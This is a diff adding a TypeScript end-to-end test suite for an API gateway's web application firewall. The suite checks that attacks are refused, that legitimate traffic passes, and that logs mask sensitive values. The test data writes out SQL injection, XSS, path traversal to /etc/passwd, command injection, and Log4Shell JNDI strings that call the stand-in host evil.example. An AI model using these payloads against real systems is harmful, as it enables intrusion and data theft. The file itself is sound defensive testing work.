@@ -1,0 +1,142 @@
+/**
+ * The `waf` policy end to end: the built-in profile (native detectors and attack rules) and the
+ * OWASP CRS v4.28.0 from ../shared at paranoia 1, through a real gateway in front of a real
+ * upstream: attacks answered 403 and never forwarded, legitimate API traffic (PUT, JSON, names
+ * with quotes) passed, report mode passing and logging, per-route exclusions, logs that carry
+ * rule ids and masked excerpts but not the raw values.
+ */
+import assert from 'node:assert/strict'
+import { existsSync } from 'node:fs'
+import { resolve } from 'node:path'
+import { after, before, describe, test } from 'node:test'
+import { request } from 'undici'
+import { baseConfig, startTestGateway, type TestGateway } from '../helpers/gateway.js'
+import { startUpstream, type TestUpstream } from '../helpers/upstream.js'
+
+const CRS = resolve(import.meta.dirname, '../../../shared/crs/v4.28.0')
+/** The XSS rules that read a code-sharing field's markup as an attack. */
+const SNIPPET_EXCLUSIONS = [934100, 941100, 941110, 941160, 941390].map((rule) => ({ rule, target: 'ARGS:json.code' }))
+
+async function call(gw: TestGateway, method: string, path: string, init: { headers?: Record<string, string>; body?: string } = {}) {
+  const response = await request(`${gw.url}${path}`, { method: method as 'GET', headers: init.headers, body: init.body })
+  const text = await response.body.text()
+  const code = response.statusCode === 200 ? null : (JSON.parse(text) as { code?: string }).code ?? null
+  return { status: response.statusCode, code }
+}
+
+describe('waf with the built-in profile', () => {
+  let upstream: TestUpstream
+  let gw: TestGateway
+
+  before(async () => {
+    upstream = await startUpstream()
+    const config = baseConfig(upstream.url)
+    config.apis = [
+      { name: 'shop', basePath: '/shop', upstream: { url: upstream.url }, policies: { waf: {} } },
+      { name: 'watch', basePath: '/watch', upstream: { url: upstream.url }, policies: { waf: { mode: 'report' } } },
+    ]
+    gw = await startTestGateway(config)
+  })
+  after(async () => {
+    await gw?.stop()
+    await upstream?.close()
+  })
+
+  test('attacks of each kind are refused with 403 and never reach the upstream', async () => {
+    const json = { 'content-type': 'application/json' }
+    const attacks: [string, string, { headers?: Record<string, string>; body?: string }][] = [
+      ['GET', `/shop/orders?id=${encodeURIComponent("1' OR '1'='1")}`, {}],
+      ['GET', `/shop/orders?id=${encodeURIComponent('1 UNION SELECT password FROM users')}`, {}],
+      ['POST', '/shop/orders', { headers: json, body: JSON.stringify({ note: '<script>alert(1)</script>' }) }],
+      ['POST', '/shop/orders', { headers: json, body: JSON.stringify({ note: '<img src=x onerror=alert(1)>' }) }],
+      ['GET', '/shop/files?name=..%2f..%2fetc%2fpasswd', {}],
+      ['POST', '/shop/ping', { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'host=127.0.0.1%3B%20cat%20/etc/passwd' }],
+      ['GET', '/shop/orders', { headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } }],
+      ['GET', '/shop/orders', { headers: { 'user-agent': '${${lower:j}ndi:${lower:l}dap://evil.example/a}' } }],
+    ]
+    for (const [method, path, init] of attacks) {
+      upstream.requests.length = 0
+      assert.deepEqual(await call(gw, method, path, init), { status: 403, code: 'GW_ERR_WAF_BLOCKED' }, `${method} ${path} ${init.body ?? JSON.stringify(init.headers)}`)
+      assert.equal(upstream.requests.length, 0)
+    }
+  })
+
+  test('legitimate API traffic passes: quotes in names, SQL words in prose, PUT and DELETE, JSON and forms', async () => {
+    const json = { 'content-type': 'application/json' }
+    const benign: [string, string, { headers?: Record<string, string>; body?: string }][] = [
+      ['GET', `/shop/customers?name=${encodeURIComponent("O'Reilly")}`, {}],
+      ['GET', `/shop/search?q=${encodeURIComponent('how to select the best union for your team or not')}`, {}],
+      ['PUT', '/shop/orders/42', { headers: json, body: JSON.stringify({ customer: "Shaquille O'Neal", items: [{ sku: 'A-1', qty: 2 }], note: 'leave at the door; ring twice & wait' }) }],
+      ['DELETE', '/shop/orders/42', {}],
+      ['POST', '/shop/orders', { headers: json, body: JSON.stringify({ html: 'a < b and c > d', path: 'docs/intro.md', price: '1-2' }) }],
+      ['POST', '/shop/subscribe', { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'email=ann%40example.com&topics=news%2Cdeals' }],
+    ]
+    for (const [method, path, init] of benign) assert.equal((await call(gw, method, path, init)).status, 200, `${method} ${path} ${init.body ?? ''}`)
+  })
+
+  test('a body the firewall cannot read is refused rather than passed unseen', async () => {
+    assert.equal((await call(gw, 'POST', '/shop/orders', { headers: { 'content-type': 'application/json' }, body: '{"note": "<script>' })).status, 403)
+  })
+
+  test('blocks are logged with rule ids and masked excerpts, counted by rule; the raw value never reaches the log', async () => {
+    const card = '4111111111111111'
+    await call(gw, 'GET', `/shop/orders?id=${encodeURIComponent(`${card}' OR '1'='1`)}`)
+    const line = gw.logLines().find((l) => l.msg === 'request blocked by the WAF' && JSON.stringify(l).includes('9000001'))
+    assert.ok(line, 'a log line for the block')
+    const rules = line.rules as { id: number; variable: string; excerpt: string }[]
+    assert.equal(rules[0]?.id, 9000001)
+    assert.equal(rules[0]?.variable, 'ARGS:id')
+    assert.ok(!JSON.stringify(gw.logLines()).includes(card), 'the card number is masked in every log line')
+    assert.match(await gw.gateway.metrics.registry.metrics(), /portcullis_waf_matches_total\{api="shop",rule="9000001",outcome="blocked"\} [1-9]/)
+  })
+
+  test('report mode passes the request and logs what would have been blocked', async () => {
+    assert.equal((await call(gw, 'GET', `/watch/orders?id=${encodeURIComponent("1' OR '1'='1")}`)).status, 200)
+    const line = gw.logLines().find((l) => l.msg === 'request matched WAF rules (report only: passed)')
+    assert.deepEqual((line?.rules as { id: number }[] | undefined)?.map((r) => r.id), [9000001])
+  })
+})
+
+describe('waf with the OWASP CRS v4.28.0 at paranoia 1', () => {
+  let upstream: TestUpstream
+  let gw: TestGateway
+
+  before(async () => {
+    assert.ok(existsSync(CRS), `the OWASP CRS is expected at ${CRS} (../shared/crs/v4.28.0 beside the repository)`)
+    upstream = await startUpstream()
+    const config = baseConfig(upstream.url)
+    config.apis = [
+      { name: 'shop', basePath: '/', upstream: { url: upstream.url }, policies: { waf: { ruleSet: CRS } } },
+      {
+        name: 'snippets',
+        basePath: '/snippets',
+        upstream: { url: upstream.url },
+        policies: { waf: { ruleSet: CRS } },
+        routes: { 'POST /': { waf: { ruleSet: CRS, excludeTargets: SNIPPET_EXCLUSIONS } } },
+      },
+    ]
+    gw = await startTestGateway(config)
+  })
+  after(async () => {
+    await gw?.stop()
+    await upstream?.close()
+  })
+
+  test('injections are blocked by the anomaly score; PUT, PATCH and JSON bodies pass', async () => {
+    const json = { 'content-type': 'application/json' }
+    assert.equal((await call(gw, 'GET', `/orders?id=${encodeURIComponent("1' or 1=1-- ")}`)).status, 403)
+    assert.equal((await call(gw, 'POST', '/orders', { headers: json, body: JSON.stringify({ note: '<script>alert(document.cookie)</script>' }) })).status, 403)
+    assert.equal((await call(gw, 'GET', '/files?name=../../../../etc/passwd')).status, 403)
+    assert.equal((await call(gw, 'PUT', '/orders/1', { headers: json, body: JSON.stringify({ customer: 'ann', qty: 2 }) })).status, 200)
+    assert.equal((await call(gw, 'PATCH', '/orders/1', { headers: { 'content-type': 'application/merge-patch+json' }, body: JSON.stringify({ qty: 3 }) })).status, 200)
+    assert.equal((await call(gw, 'GET', '/orders?status=open&limit=10')).status, 200)
+  })
+
+  test('a route override excludes one field from the rules that misread it', async () => {
+    const json = { 'content-type': 'application/json' }
+    const snippet = JSON.stringify({ code: '<script>console.log(1)</script>' })
+    assert.equal((await call(gw, 'POST', '/snippets/', { headers: json, body: snippet })).status, 200)
+    assert.equal((await call(gw, 'POST', '/notes', { headers: json, body: snippet })).status, 403)
+    assert.equal((await call(gw, 'POST', '/snippets/', { headers: json, body: JSON.stringify({ code: 'x', title: '<script>alert(1)</script>' }) })).status, 403, 'other fields are still inspected')
+  })
+})
